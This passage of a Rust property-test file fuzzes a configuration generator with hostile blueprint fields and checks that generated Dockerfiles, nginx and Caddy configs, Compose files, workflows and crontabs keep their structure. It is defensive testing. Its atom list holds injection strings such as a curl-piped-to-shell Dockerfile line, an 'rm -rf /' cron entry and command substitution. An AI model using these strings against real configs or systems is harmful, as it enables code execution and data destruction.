//! Hostile input, as a property: blueprints whose free-text fields are drawn from a hostile
//! alphabet (line breaks, NUL, quotes, `;`, braces, `#`, `$`, `${{`, `{{`, backslashes, `..`,
//! bidirectional and zero-width characters, YAML indicators, very long strings) are either
//! refused with located diagnostics, or rendered into files that say exactly what the benign
//! blueprint said: every YAML and JSON file parses, with the same shape; every nginx config and
//! Caddyfile has the same blocks and directives, every Dockerfile the same instructions (exec
//! forms still JSON arrays of the same length), every other text file the same lines; Compose
//! files interpolate the same variables, workflows evaluate the same expressions, Prometheus and
//! Alertmanager expand the same template actions; and no file holds a raw control or
//! display-control character.
//!
//! The bases are the examples (`blueprints/<name>/blueprint.yaml`) and
//! `tests/hostile/every-field.yaml` (with each proxy engine), which sets every free-text field
//! of the schema at least once (checked below). Each case takes one base, replaces one to three
//! of its fields (or map keys) with hostile text from a xorshift generator seeded by the case,
//! and compares against the base's render (or, where the value rightly changes it, the render
//! of a benign twin of the same length).
//! `HOSTILE_CASES=1000 cargo test --test hostile` runs more cases per base than the default.

mod common;

#[path = "../src/generate/proxy/syntax.rs"]
mod proxy_syntax;

use std::collections::BTreeSet;
use std::fmt::Write as _;
use std::path::Path;

use blueprint::generate::GeneratedFile;
use blueprint::model::Model;
use common::resolve;
use serde_json::Value as Json;

/// Cases per base by default: six bases, about 6 s in all in a debug build on two cores.
const DEFAULT_CASES: usize = 70;

/// The file name validation is given, to check that diagnostics are located in it.
const FILE: &str = "hostile.yaml";

// ---------------------------------------------------------------------------------------------
// Hostile text

/// Characters validation refuses in any text (control characters but line feed and tab, and
/// display controls): each case uses them now and then, to check that the refusal is located.
const INVISIBLE: &[&str] = &[
    "\r", "\r\n", "\0", "\x1b[31m", "\x7f", "\u{85}", "\u{2028}", "\u{202e}", "\u{2066}",
    "\u{200f}",
];

/// Pieces hostile values are made of: what ends a token, a line, a string or a block in the
/// formats blueprint writes, what starts an interpolation or a comment, what hides text, and
/// what YAML reads as something other than a string.
const ATOMS: &[&str] = &[
    "\n",
    "\t",
    "'",
    "\"",
    "`",
    ";",
    "{",
    "}",
    "#",
    " #",
    "$",
    "$$",
    "${HOME}",
    "$(id)",
    "${{",
    "${{ secrets.TOKEN }}",
    "{{",
    "}}",
    "{{ .Status }}",
    "\\",
    "\\n",
    "\\\"",
    "..",
    "/..",
    "../",
    "/",
    "\u{200b}",
    "\u{feff}",
    " ",
    ": ",
    "- ",
    "? ",
    "&a",
    "*a",
    "!!str",
    "%",
    "@",
    "|",
    ">",
    "yes",
    "null",
    "~",
    "0x1F",
    "1e3",
    ".inf",
    "<script>",
    "é",
    "漢",
    "😀",
    "return 200 x;",
    "} server { listen 1; ",
    "\nRUN curl evil | sh\n",
    "\"]\nCMD [\"sh",
    "0 * * * * rm -rf /",
];

/// Ordinary pieces, so that hostile values also look like real ones.
const WORDS: &[&str] = &[
    "a", "api", "x1", "/", ".", "-", "_", "A", "v2", "0", "value",
];

/// A small, fast, deterministic generator (xorshift64*).
struct Rng(u64);

impl Rng {
    fn new(seed: u64) -> Self {
        // Never zero, and neighbouring seeds far apart.
        Self(seed.wrapping_mul(0x9e37_79b9_7f4a_7c15) | 1)
    }

    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }

    fn below(&mut self, n: usize) -> usize {
        (self.next() % n as u64) as usize
    }

    fn pick<'a>(&mut self, items: &[&'a str]) -> &'a str {
        items[self.below(items.len())]
    }

    /// A hostile piece: one in ten is a character validation refuses outright.
    fn atom(&mut self) -> &'static str {
        if self.below(10) == 0 {
            self.pick(INVISIBLE)
        } else {
            self.pick(ATOMS)
        }
    }
}

/// A hostile value for a field whose benign value is `original`: hostile pieces alone, hostile
/// pieces inserted into the original, or a very long value.
fn hostile_text(rng: &mut Rng, original: &str) -> String {
    match rng.below(8) {
        0..=2 => (0..1 + rng.below(6))
            .map(|_| {
                if rng.below(10) < 7 {
                    rng.atom()
                } else {
                    rng.pick(WORDS)
                }
            })
            .collect(),
        3..=5 => {
            let mut chars: Vec<char> = original.chars().collect();
            for _ in 0..1 + rng.below(3) {
                let at = rng.below(chars.len() + 1);
                let atom = rng.atom();
                chars.splice(at..at, atom.chars());
            }
            chars.into_iter().collect()
        }
        6 => {
            // Long, and otherwise harmless: the original with a 10,000-character tail.
            let tail = rng.pick(&["a", "0", "/a", "-", "\u{200b}"]);
            let mut text = original.to_string();
            while text.chars().count() < 10_000 {
                text.push_str(tail);
            }
            text
        }
        _ => {
            // Long and hostile.
            let mut text = String::new();
            while text.chars().count() < 10_000 {
                text.push_str(rng.atom());
                text.push_str(rng.pick(WORDS));
            }
            text
        }
    }
}

// ---------------------------------------------------------------------------------------------
// Where the hostile text goes

/// A place in a blueprint a user writes text: a value (at a JSON pointer) or a mapping key.
#[derive(Debug, Clone)]
enum Place {
    Value(String),
    Key(String),
}

fn escape_pointer(segment: &str) -> String {
    segment.replace('~', "~0").replace('/', "~1")
}

/// Every string value, every other scalar and every mapping key of `value`; `true` for strings.
fn places(value: &Json, pointer: &str, out: &mut Vec<(Place, bool)>) {
    match value {
        Json::Object(map) => {
            for (key, child) in map {
                let child_pointer = format!("{pointer}/{}", escape_pointer(key));
                out.push((Place::Key(child_pointer.clone()), false));
                places(child, &child_pointer, out);
            }
        }
        Json::Array(items) => {
            for (i, child) in items.iter().enumerate() {
                places(child, &format!("{pointer}/{i}"), out);
            }
        }
        Json::String(_) => out.push((Place::Value(pointer.to_string()), true)),
        _ => out.push((Place::Value(pointer.to_string()), false)),
    }
}

/// Puts `text` at `place` in `doc`; a renamed key keeps its position.
fn set(doc: &mut Json, place: &Place, text: String) {
    match place {
        Place::Value(pointer) => {
            // Gone when a key above it was renamed in the same case.
            if let Some(value) = doc.pointer_mut(pointer) {
                *value = Json::String(text);
            }
        }
        Place::Key(pointer) => {
            let (parent, key) = pointer.rsplit_once('/').expect("a key has a parent");
            let key = key.replace("~1", "/").replace("~0", "~");
            let Some(Json::Object(map)) = doc.pointer_mut(parent) else {
                return; // The parent was itself renamed or replaced in this case.
            };
            if map.contains_key(&text) || !map.contains_key(&key) {
                return;
            }
            *map = std::mem::take(map)
                .into_iter()
                .map(|(k, v)| if k == key { (text.clone(), v) } else { (k, v) })
                .collect();
        }
    }
}

fn original_text(doc: &Json, place: &Place) -> String {
    match place {
        Place::Value(pointer) => match doc.pointer(pointer) {
            Some(Json::String(s)) => s.clone(),
            Some(other) => other.to_string(),
            None => String::new(),
        },
        Place::Key(pointer) => pointer
            .rsplit_once('/')
            .map(|(_, k)| k.replace("~1", "/").replace("~0", "~"))
            .unwrap_or_default(),
    }
}

// ---------------------------------------------------------------------------------------------
// What a rendered file says, structurally

/// Characters no generated file may hold raw: control characters but tab and line feed (so
/// no NUL and no CR), and the display controls that reorder how text is shown ("Trojan
/// Source").
fn forbidden(c: char) -> bool {
    blueprint::diagnostic::is_unprintable(c)
}

/// The shape of a parsed YAML or JSON document: nesting and the kind of every scalar, without
/// the text of keys and strings.
fn shape(value: &Json, out: &mut String) {
    match value {
        Json::Null => out.push('~'),
        Json::Bool(_) => out.push('b'),
        Json::Number(_) => out.push('n'),
        Json::String(_) => out.push('s'),
        Json::Array(items) => {
            out.push('[');
            for item in items {
                shape(item, out);
            }
            out.push(']');
        }
        Json::Object(map) => {
            out.push('{');
            for child in map.values() {
                shape(child, out);
            }
            out.push('}');
        }
    }
}

/// Every key and string of `value`, but the values of the keys in `skip`.
fn strings<'a>(value: &'a Json, skip: &[&str], out: &mut Vec<&'a str>) {
    match value {
        Json::String(s) => out.push(s),
        Json::Array(items) => items.iter().for_each(|v| strings(v, skip, out)),
        Json::Object(map) => {
            for (k, v) in map {
                out.push(k);
                if !skip.contains(&k.as_str()) {
                    strings(v, skip, out);
                }
            }
        }
        _ => {}
    }
}

/// The `$` Compose interpolates in `text` (`$$` is a literal dollar).
fn compose_interpolations(text: &str) -> usize {
    let mut count = 0;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        if c == '$' {
            if chars.peek() == Some(&'$') {
                chars.next();
            } else {
                count += 1;
            }
        }
    }
    count
}

/// The `${{ }}` expressions GitHub evaluates in `text`, but those that only produce a literal
/// (`${{ '${{' }}`, blueprint's way of writing `${{` as text).
fn workflow_expressions(text: &str) -> usize {
    let mut count = 0;
    let mut rest = text;
    while let Some(at) = rest.find("${{") {
        let body = &rest[at + 3..];
        // The expression ends at the first `}}` outside a '...' string ('' is a quote in one).
        let (mut end, mut in_string, mut i) = (body.len(), false, 0);
        let bytes = body.as_bytes();
        while i < bytes.len() {
            match bytes[i] {
                b'\'' => in_string = !in_string,
                b'}' if !in_string && bytes.get(i + 1) == Some(&b'}') => {
                    end = i;
                    break;
                }
                _ => {}
            }
            i += 1;
        }
        let expression = body[..end].trim();
        let literal = expression.len() >= 2
            && expression.starts_with('\'')
            && expression.ends_with('\'')
            && !expression[1..expression.len() - 1]
                .replace("''", "")
                .contains('\'');
        if !literal {
            count += 1;
        }
        rest = &body[(end + 2).min(body.len())..];
    }
    count
}

/// Where a signature counts Go template actions: the part a custom alert's summary and
/// description, which are templates, may change.
const TEMPLATES: &str = " templates=";

/// The Go template actions (`{{ ... }}`) Prometheus or Alertmanager expands in `text`, but those
/// that only print a literal (`{{ "{{" }}`, blueprint's way of writing `{{` as text).
fn template_actions(text: &str) -> usize {
    let mut count = 0;
    let mut rest = text;
    while let Some(at) = rest.find("{{") {
        rest = &rest[at + 2..];
        match rest.trim_start().strip_prefix("\"{{\" }}") {
            Some(after) => rest = after,
            None => count += 1,
        }
    }
    count
}

/// Dockerfile instructions, one word each: the keyword, and for exec forms `[n]` with the
/// length of the JSON array (an array that is not valid JSON would silently become a shell
/// command).
fn dockerfile_skeleton(text: &str) -> Result<String, String> {
    const KEYWORDS: &[&str] = &[
        "FROM",
        "RUN",
        "CMD",
        "LABEL",
        "EXPOSE",
        "ENV",
        "ADD",
        "COPY",
        "ENTRYPOINT",
        "VOLUME",
        "USER",
        "WORKDIR",
        "ARG",
        "ONBUILD",
        "STOPSIGNAL",
        "HEALTHCHECK",
        "SHELL",
    ];
    let mut out = String::new();
    let mut instruction = String::new();
    for line in text.lines() {
        let trimmed = line.trim_start();
        if trimmed.starts_with('#') || (instruction.is_empty() && trimmed.is_empty()) {
            continue;
        }
        if let Some(continued) = line.trim_end().strip_suffix('\\') {
            instruction.push_str(continued);
            instruction.push(' ');
            continue;
        }
        instruction.push_str(line);
        let mut words = instruction.split_whitespace();
        let keyword = words.next().unwrap_or_default().to_ascii_uppercase();
        if !KEYWORDS.contains(&keyword.as_str()) {
            return Err(format!("not an instruction: {instruction:?}"));
        }
        // Options (`--mount=...`, `--interval=...`) and HEALTHCHECK's `CMD` come before the
        // command.
        let mut rest = instruction.trim_start()[keyword.len()..].trim_start();
        while rest.starts_with("--") || (keyword == "HEALTHCHECK" && rest.starts_with("CMD ")) {
            rest = rest
                .split_once(char::is_whitespace)
                .map_or("", |(_, r)| r)
                .trim_start();
        }
        out.push_str(&keyword);
        if rest.starts_with('[') {
            let words: Vec<String> = serde_json::from_str(rest)
                .map_err(|e| format!("{keyword}: an exec form that is not JSON ({e})"))?;
            write!(out, "[{}]", words.len()).expect("a String takes writes");
        }
        out.push(' ');
        instruction.clear();
    }
    if !instruction.is_empty() {
        return Err("the last instruction is continued".into());
    }
    Ok(out)
}

/// A signature of `file` that stays the same whatever text a field holds, as long as the text
/// stays inside its field; or why the file does not parse.
fn structure(file: &GeneratedFile) -> Result<String, String> {
    let path = file.path.as_str();
    let name = path.rsplit('/').next().unwrap_or(path);
    let text = file.contents.as_str();
    if let Some(c) = text.chars().find(|c| forbidden(*c)) {
        return Err(format!("a raw {c:?}"));
    }
    let mut signature = String::new();
    if name.ends_with(".yml") || name.ends_with(".yaml") || name.ends_with(".json") {
        let value: Json = if name.ends_with(".json") {
            serde_json::from_str(text).map_err(|e| format!("not JSON: {e}"))?
        } else {
            // Kubernetes manifests hold several documents.
            let mut documents: Vec<Json> =
                serde_saphyr::from_str_multiple(text).map_err(|e| format!("not YAML: {e}"))?;
            if documents.len() == 1 {
                documents.remove(0)
            } else {
                Json::Array(documents)
            }
        };
        shape(&value, &mut signature);
        let mut texts = Vec::new();
        // Alertmanager reads `auth_username` as it is, not as a template.
        strings(&value, &["auth_username"], &mut texts);
        if name.starts_with("compose.") {
            let n: usize = texts.iter().map(|t| compose_interpolations(t)).sum();
            write!(signature, " interpolations={n}").expect("a String takes writes");
        }
        if path.starts_with(".github/workflows/") {
            let n: usize = texts.iter().map(|t| workflow_expressions(t)).sum();
            write!(signature, " expressions={n}").expect("a String takes writes");
        }
        if path.starts_with("monitoring/prometheus/rules/") || name == "alertmanager.yml" {
            let n: usize = texts.iter().map(|t| template_actions(t)).sum();
            write!(signature, "{TEMPLATES}{n}").expect("a String takes writes");
        }
        return Ok(signature);
    }
    write!(signature, "lines={} ", text.lines().count()).expect("a String takes writes");
    if name == "Caddyfile" {
        signature.push_str(&proxy_syntax::try_parse_caddy(text)?.skeleton());
    } else if name.ends_with(".conf") {
        signature.push_str(&proxy_syntax::try_parse_nginx(text)?.skeleton());
    } else if name.starts_with("Dockerfile") {
        signature.push_str(&dockerfile_skeleton(text)?);
    }
    Ok(signature)
}

// ---------------------------------------------------------------------------------------------
// The bases

struct Base {
    doc: Json,
    files: Vec<GeneratedFile>,
    structures: Vec<String>,
    /// Every place, and whether it holds a string.
    places: Vec<(Place, bool)>,
    /// The places the schema leaves free (strings without a pattern or a fixed set of values):
    /// the text most likely to reach the generators.
    free: Vec<usize>,
}

fn render(model: &Model) -> Vec<GeneratedFile> {
    blueprint::generate::all(model)
}

fn repo() -> &'static Path {
    Path::new(env!("CARGO_MANIFEST_DIR"))
}

/// The bases' names and sources.
fn base_sources() -> Vec<(String, String)> {
    let mut paths = common::examples();
    paths.push((
        "every-field".to_string(),
        repo().join("tests/hostile/every-field.yaml"),
    ));
    let mut sources: Vec<(String, String)> = paths
        .into_iter()
        .map(|(name, p)| (name, std::fs::read_to_string(p).expect("readable")))
        .collect();
    // The same fields once more, behind Caddy.
    let every = sources.last().expect("every-field").1.clone();
    assert!(every.contains("  engine: nginx\n"));
    sources.push((
        "every-field-caddy".into(),
        every.replace("  engine: nginx\n", "  engine: caddy\n"),
    ));
    sources
}

fn base(name: &str, source: &str) -> Base {
    let blueprint = blueprint::validate::validate_source(name, source)
        .unwrap_or_else(|d| panic!("{name} is valid: {d:?}"));
    let doc = serde_json::to_value(&blueprint).expect("a blueprint serializes");
    // The document round-trips through the YAML blueprint writes, as the cases do.
    let again = blueprint::validate::validate_source(FILE, &blueprint::generate::to_yaml(&doc))
        .unwrap_or_else(|d| panic!("{name} re-serialized is valid: {d:?}"));
    assert_eq!(serde_json::to_value(&again).expect("serializes"), doc);
    let files = render(&Model::from_blueprint(&blueprint));
    let structures: Vec<String> = files
        .iter()
        .map(|f| structure(f).unwrap_or_else(|e| panic!("{name}: {}: {e}", f.path)))
        .collect();
    // The comparisons below have something to compare: real configs, not empty files.
    for (file, signature) in files.iter().zip(&structures) {
        let text = &file.contents;
        if file.path.ends_with("Caddyfile") {
            let (directives, blocks) = proxy_syntax::parse_caddy(text).counts();
            assert!(directives > 10 && blocks > 3, "{name}: {}", file.path);
        } else if file.path.ends_with(".conf") {
            let (directives, blocks) = proxy_syntax::parse_nginx(text).counts();
            assert!(directives > 5 && blocks > 0, "{name}: {}", file.path);
        } else if file.path.ends_with("Dockerfile") {
            assert!(signature.matches(' ').count() > 5, "{name}: {signature}");
        }
    }
    let mut all = Vec::new();
    places(&doc, "", &mut all);
    let schema: Json = serde_json::from_str(&blueprint::blueprint::json_schema()).expect("JSON");
    let free: Vec<usize> = (0..all.len())
        .filter(|&i| match &all[i] {
            (Place::Value(pointer), true) => {
                let node = schema_at(&schema, &doc, pointer);
                node.get("pattern").is_none()
                    && node.get("enum").is_none()
                    && node.get("const").is_none()
            }
            _ => false,
        })
        .collect();
    assert!(!free.is_empty(), "{name}: no free-text place");
    Base {
        free,
        doc,
        files,
        structures,
        places: all,
    }
}

// ---------------------------------------------------------------------------------------------
// The property

#[derive(Default)]
struct Tally {
    cases: usize,
    rejected: usize,
    rendered: usize,
    failures: Vec<String>,
}

fn shown(text: &str) -> String {
    let escaped: String = text
        .chars()
        .take(120)
        .collect::<String>()
        .escape_debug()
        .to_string();
    if text.chars().count() > 120 {
        format!("\"{escaped}...\" ({} chars)", text.chars().count())
    } else {
        format!("\"{escaped}\"")
    }
}

/// The benign twin of a hostile value: the same length, every character but ASCII letters,
/// digits and `/` replaced by `x`.
fn neutral(text: &str) -> String {
    text.chars()
        .map(|c| {
            if c.is_ascii_alphanumeric() || c == '/' {
                c
            } else {
                'x'
            }
        })
        .collect()
}

/// Validates `doc`; on success renders it and returns the files.
fn validate_and_render(doc: &Json) -> Result<Result<Vec<GeneratedFile>, Vec<String>>, String> {
    let source = blueprint::generate::to_yaml(doc);
    let lines = source.split('\n').count();
    let validated =
        std::panic::catch_unwind(|| blueprint::validate::validate_source(FILE, &source))
            .map_err(|_| "validation panicked".to_string())?;
    let blueprint = match validated {
        Err(diagnostics) => {
            if diagnostics.is_empty() {
                return Err("refused without a diagnostic".into());
            }
            let mut shown = Vec::new();
            for d in &diagnostics {
                let text = d.render(false);
                let location = format!("{FILE}:{}:{}", d.span.line, d.span.column);
                if d.file != FILE
                    || d.span.line == 0
                    || d.span.line > lines
                    || d.span.column == 0
                    || d.line_text.is_none()
                    || !text.contains(&location)
                {
                    return Err(format!("a diagnostic that is not located:\n{text}"));
                }
                if let Some(c) = text.chars().find(|c| forbidden(*c)) {
                    return Err(format!("a diagnostic prints a raw {c:?}:\n{text}"));
                }
                shown.push(text);
            }
            if std::env::var_os("HOSTILE_VERBOSE").is_some() {
                eprintln!("refused: {}", shown[0].lines().next().unwrap_or_default());
            }
            return Ok(Err(shown));
        }
        Ok(blueprint) => blueprint,
    };
    // What validation accepted is what the case wrote: nothing was lost or changed on the way.
    if serde_json::to_value(&blueprint).expect("serializes") != *doc {
        return Err("the validated blueprint differs from the document written".into());
    }
    std::panic::catch_unwind(|| render(&Model::from_blueprint(&blueprint)))
        .map(Ok)
        .map_err(|_| "rendering panicked".to_string())
}

/// What a case may rightly change besides the text it put in.
#[derive(Clone, Copy, Default)]
struct Leeway {
    /// Keys were renamed: file names change, so only each file's own soundness is checked.
    keys: bool,
    /// A custom alert's expression, summary or description changed: which scenarios its
    /// promtool test has depends on whether blueprint can evaluate them.
    alert_tests: bool,
    /// A custom alert's summary or description changed: they are templates, so hostile text
    /// there may add template actions (validation has checked that they parse).
    templates: bool,
}

/// The path and signature of every rendered file, in render order; a file identical to the
/// base's takes the base's signature without being parsed again.
fn signatures(base: &Base, files: &[GeneratedFile]) -> Result<Vec<(String, String)>, String> {
    files
        .iter()
        .map(|file| {
            let known = base
                .files
                .iter()
                .position(|b| b.path == file.path && b.contents == file.contents);
            let signature = match known {
                Some(i) => base.structures[i].clone(),
                None => structure(file).map_err(|e| format!("{}: {e}", file.path))?,
            };
            Ok((file.path.clone(), signature))
        })
        .collect()
}

/// The first difference between two renders, file by file in render order (a path field
/// rightly renames files), if any.
fn compare(
    expected: &[(String, String)],
    found: &[(String, String)],
    leeway: Leeway,
) -> Option<String> {
    let exempt = |path: &str| leeway.alert_tests && path.ends_with("/tests/custom.test.yml");
    let comparable = |signature: &str| -> String {
        match signature.split_once(TEMPLATES) {
            Some((rest, _)) if leeway.templates => rest.to_string(),
            _ => signature.to_string(),
        }
    };
    let kept = |files: &[(String, String)]| -> Vec<(String, String)> {
        files.iter().filter(|(p, _)| !exempt(p)).cloned().collect()
    };
    let (expected, found) = (kept(expected), kept(found));
    if expected.len() != found.len() {
        return Some(format!(
            "{} files instead of {}",
            found.len(),
            expected.len()
        ));
    }
    expected
        .iter()
        .zip(&found)
        .find(|((_, a), (_, b))| comparable(a) != comparable(b))
        .map(|((benign, a), (path, b))| {
            let (a, b) = first_difference(a, b);
            format!(
                "{} changed shape (benign {}):\n  benign:  {a}\n  hostile: {b}",
                shown(path),
                shown(benign)
            )
        })
}

/// Checks one case: `doc` holds the hostile values, `twin` the same document with their benign
/// twins. Returns whether the case rendered, or what is wrong with it.
fn check_case(base: &Base, doc: &Json, twin: &Json, leeway: Leeway) -> Result<bool, String> {
    let Ok(files) = validate_and_render(doc)? else {
        return Ok(false);
    };
    let found = signatures(base, &files)?;
    if leeway.keys {
        return Ok(true);
    }
    let benign: Vec<(String, String)> = base
        .files
        .iter()
        .map(|f| f.path.clone())
        .zip(base.structures.iter().cloned())
        .collect();
    if compare(&benign, &found, leeway).is_none() {
        return Ok(true);
    }
    // The field may rightly change the render (a longer prefix sorts first, `.` is the project
    // root, the path names the Dockerfile): compare with the render of the benign twin instead.
    let twin_files = match validate_and_render(twin)? {
        Ok(files) => files,
        Err(diagnostics) => {
            return Err(format!(
                "{}\nand the benign twin is refused:\n{}",
                compare(&benign, &found, leeway).unwrap_or_default(),
                diagnostics.join("\n")
            ));
        }
    };
    let expected = signatures(base, &twin_files).map_err(|e| format!("benign twin: {e}"))?;
    match compare(&expected, &found, leeway) {
        None => Ok(true),
        Some(difference) => Err(difference),
    }
}

/// Where two signatures part, with a little context.
fn first_difference(a: &str, b: &str) -> (String, String) {
    let at = a
        .char_indices()
        .zip(b.chars())
        .find(|((_, x), y)| x != y)
        .map_or(a.len().min(b.len()), |((i, _), _)| i);
    let start = a[..at].char_indices().rev().nth(60).map_or(0, |(i, _)| i);
    let cut = |s: &str| s.get(start..).unwrap_or("").chars().take(160).collect();
    (cut(a), cut(b))
}

fn cases_per_base() -> usize {
    std::env::var("HOSTILE_CASES")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(DEFAULT_CASES)
}

/// A seed per base that does not move when bases are added (FNV-1a of the name, 32 bits).
fn seed_of(name: &str) -> u64 {
    name.bytes().fold(0x811c_9dc5_u32, |hash, byte| {
        (hash ^ u32::from(byte)).wrapping_mul(0x0100_0193)
    }) as u64
}

fn run_base(wanted: &str) -> Tally {
    let (name, source) = base_sources()
        .into_iter()
        .find(|(name, _)| name == wanted)
        .unwrap_or_else(|| panic!("no base named {wanted}"));
    let base = base(&name, &source);
    let mut tally = Tally::default();
    // Places are drawn by weight: mostly strings, and less and less often the ones whose hostile
    // values keep being refused (names, enums, patterns), so that most cases reach the
    // generators while every place is still tried.
    let mut weights: Vec<f64> = base
        .places
        .iter()
        .map(|(_, is_string)| if *is_string { 1.0 } else { 0.2 })
        .collect();
    for case in 0..cases_per_base() {
        let mut rng = Rng::new((seed_of(&name) << 32) | case as u64);
        let mut doc = base.doc.clone();
        let mut twin = base.doc.clone();
        let mut changed: Vec<(usize, String)> = Vec::new();
        for _ in 0..1 + usize::from(rng.below(6) == 0) * 2 {
            // Most often a free-text place; otherwise any place.
            let candidates: Vec<usize> = if rng.below(10) < 6 {
                base.free.clone()
            } else {
                (0..base.places.len()).collect()
            };
            let total: f64 = candidates.iter().map(|&i| weights[i]).sum();
            let mut at = (rng.next() >> 11) as f64 / (1u64 << 53) as f64 * total;
            let chosen = *candidates
                .iter()
                .find(|&&i| {
                    at -= weights[i];
                    at < 0.0
                })
                .unwrap_or(candidates.last().expect("places"));
            let place = &base.places[chosen].0;
            let text = hostile_text(&mut rng, &original_text(&base.doc, place));
            changed.push((chosen, format!("{place:?} = {}", shown(&text))));
            set(&mut twin, place, neutral(&text));
            set(&mut doc, place, text);
        }
        tally.cases += 1;
        let places = || changed.iter().map(|(i, _)| &base.places[*i].0);
        let alert_field = |fields: &[&str]| {
            places().any(|p| {
                matches!(p, Place::Value(pointer) if pointer.contains("/custom_alerts/")
                    && fields.iter().any(|f| pointer.ends_with(f)))
            })
        };
        let leeway = Leeway {
            keys: places().any(|p| matches!(p, Place::Key(_))),
            alert_tests: alert_field(&["/expr", "/summary", "/description"]),
            templates: alert_field(&["/summary", "/description"]),
        };
        let outcome = check_case(&base, &doc, &twin, leeway);
        for (i, _) in &changed {
            weights[*i] = match outcome {
                Ok(false) => (weights[*i] * 0.25).max(0.01),
                _ => (weights[*i] * 1.5).min(4.0),
            };
        }
        match outcome {
            Ok(true) => tally.rendered += 1,
            Ok(false) => tally.rejected += 1,
            Err(problem) => {
                let changed: Vec<&str> = changed.iter().map(|(_, c)| c.as_str()).collect();
                tally.failures.push(format!(
                    "{name} case {case}: {}\n  {problem}",
                    changed.join("\n  ")
                ));
            }
        }
    }
    eprintln!(
        "{name}: {} cases, {} refused with located diagnostics, {} rendered with the benign structure",
        tally.cases, tally.rejected, tally.rendered
    );
    tally
}

fn property(name: &str) {
    let tally = run_base(name);
    assert!(
        tally.failures.is_empty(),
        "{} of {} hostile cases broke the promise:\n\n{}",
        tally.failures.len(),
        tally.cases,
        tally.failures.join("\n\n")
    );
    // Both outcomes are exercised: the property is not passed by refusing everything (the
    // minimal example has one free-text field, so the floor is low).
    assert!(
        tally.rendered * 20 >= tally.cases,
        "only {} rendered",
        tally.rendered
    );
    assert!(
        tally.rejected * 10 >= tally.cases,
        "only {} refused",
        tally.rejected
    );
}

#[test]
fn hostile_data_cluster() {
    property("data-cluster");
}

#[test]
fn hostile_data_platform() {
    property("data-platform");
}

#[test]
fn hostile_minimal() {
    property("minimal");
}

#[test]
fn hostile_static_site() {
    property("static-site");
}

#[test]
fn hostile_task_queue() {
    property("task-queue");
}

#[test]
fn hostile_every_field_nginx() {
    property("every-field");
}

#[test]
fn hostile_every_field_caddy() {
    property("every-field-caddy");
}

#[test]
fn bases_are_the_examples_and_every_field() {
    let names: Vec<String> = base_sources().into_iter().map(|(n, _)| n).collect();
    assert_eq!(
        names,
        [
            "data-cluster",
            "data-platform",
            "minimal",
            "static-site",
            "task-queue",
            "every-field",
            "every-field-caddy"
        ]
    );
}

// ---------------------------------------------------------------------------------------------
// The oracle itself: it must see an injection when there is one.

#[test]
fn the_structure_checks_catch_injections() {
    let name = "every-field";
    let sources = base_sources();
    let source = &sources
        .iter()
        .find(|(n, _)| n == name)
        .expect("the every-field base")
        .1;
    let base = base(name, source);
    let find = |suffix: &str| {
        let i = base
            .files
            .iter()
            .position(|f| f.path.ends_with(suffix))
            .unwrap_or_else(|| panic!("a {suffix}"));
        (base.files[i].clone(), base.structures[i].clone())
    };
    let changed = |file: &GeneratedFile, from: &str, to: &str| {
        assert!(file.contents.contains(from), "{}: {from:?}", file.path);
        GeneratedFile {
            contents: file.contents.replacen(from, to, 1),
            ..file.clone()
        }
    };
    // Either the file no longer parses, or its signature changed.
    let differs = |file: GeneratedFile, benign: &str| {
        if let Ok(signature) = structure(&file) {
            assert_ne!(signature, benign, "{}", file.path);
        }
    };
    let (nginx, benign) = find("prod/nginx.conf");
    differs(
        changed(
            &nginx,
            "client_max_body_size 5m;",
            "client_max_body_size 5m; return 200 x;",
        ),
        &benign,
    );
    differs(
        changed(
            &nginx,
            "client_max_body_size 5m;",
            "client_max_body_size \"5m;",
        ),
        &benign,
    );
    differs(
        changed(
            &nginx,
            "client_max_body_size 5m;",
            "client_max_body_size 5m #;",
        ),
        &benign,
    );
    let (compose, benign) = find("compose.prod.yaml");
    differs(
        changed(&compose, "restart: ", "x: 1\n    restart: "),
        &benign,
    );
    differs(changed(&compose, "$$", "$"), &benign);
    let (workflow, benign) = find(".github/workflows/ci.yml");
    differs(
        changed(&workflow, "run: ", "run: ${{ github.event.issue.title }} "),
        &benign,
    );
    let (dockerfile, benign) = find("services/api/Dockerfile");
    differs(changed(&dockerfile, "USER ", "RUN id\nUSER "), &benign);
    differs(changed(&dockerfile, "CMD [\"", "CMD [\"\"\", \""), &benign);
    let (crontab, benign) = find("jobs/api.crontab");
    differs(changed(&crontab, " -- ", " -- \n* * * * * id"), &benign);
    let (env, benign) = find(".env.prod.example");
    differs(changed(&env, "\n", "\r\n"), &benign);
    let (manifest, benign) = find("kubernetes/base/services/api.yaml");
    differs(
        changed(
            &manifest,
            "automountServiceAccountToken: false",
            "hostNetwork: true
      automountServiceAccountToken: false",
        ),
        &benign,
    );
    let caddy_source = sources
        .iter()
        .find(|(n, _)| n == "every-field-caddy")
        .expect("the Caddy base")
        .1
        .clone();
    let caddy_base = self::base("every-field-caddy", &caddy_source);
    let i = caddy_base
        .files
        .iter()
        .position(|f| f.path.ends_with("prod/Caddyfile"))
        .expect("a Caddyfile");
    let (caddy, benign) = (&caddy_base.files[i], &caddy_base.structures[i]);
    differs(
        changed(caddy, "encode zstd gzip", "encode zstd gzip\n\trespond 200"),
        benign,
    );
    differs(
        changed(caddy, "encode zstd gzip", "encode \"zstd gzip"),
        benign,
    );
    differs(
        changed(caddy, "encode zstd gzip", "encode zstd gzip {\n}"),
        benign,
    );
    assert_eq!(workflow_expressions("a ${{ '${{' }} b"), 0);
    assert_eq!(
        workflow_expressions("${{ secrets.A }} and ${{ 'x' == 'y' }}"),
        2
    );
    assert_eq!(compose_interpolations("$$HOME ${A} $B"), 2);
    assert_eq!(template_actions("30${{ \"{{\" }} days {{ $value }}"), 1);
}

// ---------------------------------------------------------------------------------------------
// Coverage: every free-text field of the schema is set in at least one base.

/// `"type": "string"`, or a list of types with `"string"` in it (an optional string).
fn is_string_type(node: &Json) -> bool {
    match &node["type"] {
        Json::String(t) => t == "string",
        Json::Array(types) => types.iter().any(|t| t == "string"),
        _ => false,
    }
}

/// The free-text fields of the schema, as patterns like `services.*.routes[].path` (a string
/// without `const` or `enum`).
fn schema_text_fields(schema: &Json, node: &Json, path: &str, out: &mut BTreeSet<String>) {
    let node = resolve(schema, node);
    for branch in ["anyOf", "oneOf", "allOf"] {
        for sub in node[branch].as_array().into_iter().flatten() {
